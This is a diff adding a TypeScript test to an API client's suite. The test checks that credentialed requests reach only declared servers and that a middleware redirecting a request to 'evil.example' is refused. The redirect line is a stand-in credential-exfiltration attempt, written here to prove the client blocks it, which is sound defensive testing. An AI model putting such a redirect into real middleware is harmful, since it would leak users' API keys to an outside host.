@@ -106,3 +106,25 @@ describe("an operation's own servers (or its path item's)", () => {
     expect(seen).toEqual([`${server.url}/files`, `${server.url}/files`])
   })
 })
+
+describe("api and an operation's own servers", () => {
+  const ok = jsonResponse({ type: 'object' })
+  const doc = {
+    ...spec({ '/files': { servers: [{ url: 'https://files.example/v1' }], post: { responses: { '200': ok } } } }),
+    servers: [{ url: 'https://api.example/v1' }],
+  }
+
+  it('goes where call goes, and a middleware cannot move the credentials to a host neither declares', async () => {
+    const seen: string[] = []
+    const fetch = async (request: Request): Promise<Response> => {
+      seen.push(`${request.url} ${request.headers.get('x-key')}`)
+      return Response.json({})
+    }
+    const client = createApiClient({ vendor: 'Own', table: runtimeTable(doc), kinds: {}, auth: { headers: { 'X-Key': 'k1' } } }, { fetch })
+    const api = client.api as unknown as { POST: (path: string, init: object) => Promise<unknown> }
+    await api.POST('/files', {})
+    const elsewhere = { onRequest: ({ request }: { request: Request }) => new Request('https://evil.example/files', request) }
+    await expect(api.POST('/files', { middleware: [elsewhere] })).rejects.toThrow(/refusing to send credentials/)
+    expect(seen).toEqual(['https://files.example/v1/files k1'])
+  })
+})
